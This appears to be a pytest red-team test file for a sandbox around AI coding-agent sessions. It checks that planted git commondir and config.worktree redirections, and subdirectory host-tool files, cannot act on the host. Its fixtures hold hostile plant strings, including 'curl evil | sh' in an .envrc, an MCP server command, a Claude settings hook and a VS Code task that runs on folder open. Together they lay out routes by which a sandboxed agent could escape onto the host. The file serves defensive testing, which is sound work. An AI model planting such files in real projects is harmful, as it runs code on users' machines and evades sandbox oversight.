"""Red team, while the session runs: git files a session would create act on the host's git at
once (the user's prompt runs `git status` in another terminal), before any review; and the
files the host's tools obey in a subdirectory (sub/.envrc, sub/.claude/settings.json, …) are as
protected as at the root (issue 23, items 2 and 3).

An absent `commondir` or `config.worktree` of every git directory in the project is made for
the session with text git reads as if there were none (commondir ".", an empty config),
read-only, and removed after it. Every plant has its positive control without claudebox.
"""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest
from harness import Box, host_git
from sessionlib import (
    GIT_PLANT_FUNCTIONS,
    SESSION_GIT,
    assert_no_raw_failure,
    brief,
    git_world,
    host_sh,
    marker_dir,
    start_session,
    wait_for,
    warnings_naming,
)

# name: (the setup on the host before the session, the plant: $M is the marker)
PLANTS = {
    "commondir": ("", "evil_gitdir .git .git/x-evil && echo x-evil > .git/commondir"),
    "config.worktree": (
        "git config core.repositoryformatversion 1 && git config extensions.worktreeConfig true",
        "evil_config > .git/config.worktree",
    ),
    "a worktree's config.worktree": (
        "git config core.repositoryformatversion 1 && git config extensions.worktreeConfig true",
        "evil_config > .git/worktrees/wt-in/config.worktree",
    ),
    "a nested clone's commondir": (
        "",
        "evil_gitdir nsub/.git nsub/.git/x-evil && echo x-evil > nsub/.git/commondir",
    ),
}
# where the user's prompt runs `git status` for each plant
WHERE = {"a worktree's config.worktree": "wt-in", "a nested clone's commondir": "nsub"}


def prepare(box: Box, project: Path, setup: str) -> None:
    for command in filter(None, setup.split(" && ")):
        host_git(box, *command.split()[1:], cwd=project)


@pytest.mark.parametrize("name", list(PLANTS))
def test_a_git_redirection_a_session_writes_never_acts_while_it_runs(box: Box, name: str) -> None:
    setup, plant = PLANTS[name]
    where = WHERE.get(name, ".")
    control = git_world(box, box.root / "control")
    prepare(box, control.project, setup)
    control_marker = marker_dir(box) / "control-fired"
    planted = host_sh(box, GIT_PLANT_FUNCTIONS + plant, str(control_marker), cwd=control.project)
    assert planted.returncode == 0, planted.stderr
    host_git(box, "status", cwd=control.project / where, check=False, setup=False)
    assert control_marker.exists(), "control: the host's git did not run the plant"

    world = git_world(box, box.home)
    prepare(box, world.project, setup)
    marker = marker_dir(box) / "session-fired"
    ready, done = world.project / "planted-signal", world.project / "host-looked"
    snippet = (
        f"{plant}; echo write=$? > planted-signal; "
        "while [ ! -e host-looked ]; do sleep 0.1; done; cat planted-signal"
    )
    session = start_session(box, snippet, marker)
    try:
        wait_for(ready, session, "the plant")
        # the user's prompt in another terminal, while the session runs
        host_git(box, "status", cwd=world.project / where, check=False, setup=False)
        fired_during = marker.exists()
        box.write(done, "", mode=0o644)
        stdout, stderr = session.communicate(timeout=120)
    finally:
        if session.poll() is None:
            session.kill()
    assert "write=" in stdout, brief(stderr)
    result = subprocess.CompletedProcess(session.args, session.returncode, stdout, stderr)
    assert_no_raw_failure(result)
    host_git(box, "status", cwd=world.project / where, check=False, setup=False)
    assert {
        "written": "write=0" in stdout,
        "fired during": fired_during,
        "after": marker.exists(),
    } == {
        "written": False,
        "fired during": False,
        "after": False,
    }


def test_git_inside_keeps_working_and_the_placeholders_go_after(box: Box) -> None:
    """commit, branch, worktree add and a submodule's checkout inside, with the placeholders in
    place; after the session none is left on the host."""
    world = git_world(box, box.home)
    git = SESSION_GIT
    snippet = (
        f"cat .git/commondir; echo; {git} rev-parse --git-common-dir && "
        f"echo change >> README && {git} commit -qam inside && echo commit-ok && "
        f"{git} branch inside-branch && echo branch-ok && "
        f"{git} worktree add -q wt-new && echo worktree-ok && "
        f"{git} -C wt-new status --short && echo worktree-status-ok && "
        # (`git submodule update` rewrites core.worktree in the submodule's config, which is
        # read-only inside since that config is protected: not this change's to fix)
        f"rm sub/lib.txt && {git} -C sub checkout -q -- . && test -e sub/lib.txt && "
        f"{git} -C sub status --short && echo submodule-ok"
    )
    result = box.probe(snippet, timeout=120)
    lines = result.stdout.splitlines()
    assert lines[:2] == [".", str(world.project / ".git")], brief(result.stderr)
    for step in ("commit", "branch", "worktree", "worktree-status", "submodule"):
        assert f"{step}-ok" in lines, "\n".join([step, *lines[5:]])
    placeholders = [
        world.project / ".git" / "commondir",
        world.project / ".git" / "config.worktree",
        world.project / ".git" / "worktrees" / "wt-in" / "config.worktree",
        world.nsub / ".git" / "commondir",
    ]
    assert [path for path in placeholders if path.exists()] == []
    log = host_git(box, "log", "--format=%s", "-1", cwd=world.project)
    assert log.stdout.strip() == "inside"
    assert not warnings_naming(result.stderr, "commondir"), brief(result.stderr)


# path below sub/: (what the plant writes there)
SUBDIRECTORY_FILES = {
    ".envrc": "curl evil | sh",
    ".mcp.json": '{"mcpServers": {"x": {"command": "evil"}}}',
    ".claude/settings.json": '{"hooks": {"Stop": [{"hooks": [{"command": "x"}]}]}}',
    ".vscode/tasks.json": '{"tasks": [{"runOptions": {"runOn": "folderOpen"}}]}',
}


def test_files_host_tools_obey_in_a_subdirectory_are_protected_as_at_the_root(box: Box) -> None:
    """Existing ones cannot be rewritten, nor their directories renamed away; new ones in
    another subdirectory are reported after the session."""
    for relative in SUBDIRECTORY_FILES:
        box.write(box.project / "sub" / relative, "{}\n", mode=0o644)
    writes = "; ".join(
        f"printf '%s' '{content}' > sub/{relative}; echo {relative}=$?"
        for relative, content in SUBDIRECTORY_FILES.items()
    )
    renames = "mv sub/.claude sub/.claude-old; echo rename=$?"
    creates = "; ".join(
        f"mkdir -p other/$(dirname {relative}) && printf x > other/{relative}"
        for relative in SUBDIRECTORY_FILES
    )
    control = box.root / "control"
    for relative in SUBDIRECTORY_FILES:
        box.write(control / "sub" / relative, "{}\n", mode=0o644)
    planted = host_sh(box, f"{writes}; {renames}", cwd=control)
    assert all(f"{rel}=0" in planted.stdout for rel in SUBDIRECTORY_FILES), planted.stdout
    result = box.probe(f"{writes}; {renames}; {creates}; echo done")
    assert result.stdout.splitlines()[-1] == "done", brief(result.stderr)
    assert {line for line in result.stdout.splitlines() if line.endswith("=0")} == set()
    unchanged = {rel: (box.project / "sub" / rel).read_text() for rel in SUBDIRECTORY_FILES}
    assert unchanged == dict.fromkeys(SUBDIRECTORY_FILES, "{}\n")
    reported = [
        relative
        for relative in (".envrc", ".mcp.json", ".claude/settings.json", ".vscode")
        if warnings_naming(result.stderr, str(box.project / "other" / relative))
    ]
    assert reported == [".envrc", ".mcp.json", ".claude/settings.json", ".vscode"], brief(
        result.stderr
    )
